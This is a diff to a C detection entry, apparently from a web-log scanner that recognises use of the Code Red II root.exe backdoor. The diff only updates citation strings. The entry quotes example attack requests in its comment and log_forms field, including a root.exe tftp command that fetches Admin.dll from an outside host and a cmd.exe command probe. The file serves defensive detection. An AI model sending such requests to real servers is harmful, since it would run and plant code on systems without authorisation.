@@ -1,8 +1,8 @@
 /* Use of Code Red II's backdoor: root.exe (a copy of cmd.exe that CRII put in
  * \inetpub\scripts and \progra~1\common~1\system\MSADC, reachable as
  * /scripts/root.exe and /MSADC/root.exe) and the /c and /d virtual
- * directories mapping the drive roots (worms.md §1.6: SANS AntiCodeRed2.vbs,
- * Microsoft Japan Dd362800, Snort 1256). Nimda's own four c+dir probes are
+ * directories mapping the drive roots ([SANS-ACR2],
+ * [CERT-IN-2001-09], [Snort] 1256). Nimda's own four c+dir probes are
  * reported as nimda; this is everything else, such as Nimda's follow-up
  * "root.exe?/c+tftp -i <ip> GET Admin.dll" or a person typing commands. */
 #include "worms/internal.h"
@@ -56,8 +56,8 @@ const struct ws_worm ws_worm_backdoor_use = {
 	.log_forms = "Apache: \"GET /scripts/root.exe?/c+tftp%20-i%20... HTTP/1.0\"; "
 		     "\"GET /c/winnt/system32/cmd.exe?/c+ver\"; Apache error log: File does not "
 		     "exist: .../scripts/root.exe (heuristic: the command is not logged)",
-	.sources = "worms.md 1.5, 1.6; SANS AntiCodeRed2.vbs; Microsoft Japan Dd362800; Snort 1256; "
-		   "Bro worm.bro (c+tftp)",
+	.sources = "[SANS-ACR2]; [CERT-IN-2001-09]; [KB317605]; [Snort] 1256; "
+		   "[Bro] worm.bro (c+tftp) (see docs/sources.md)",
 	.sigs = sigs,
 	.nsigs = WS_NSIGS(sigs),
 	.prefilter = prefilter,
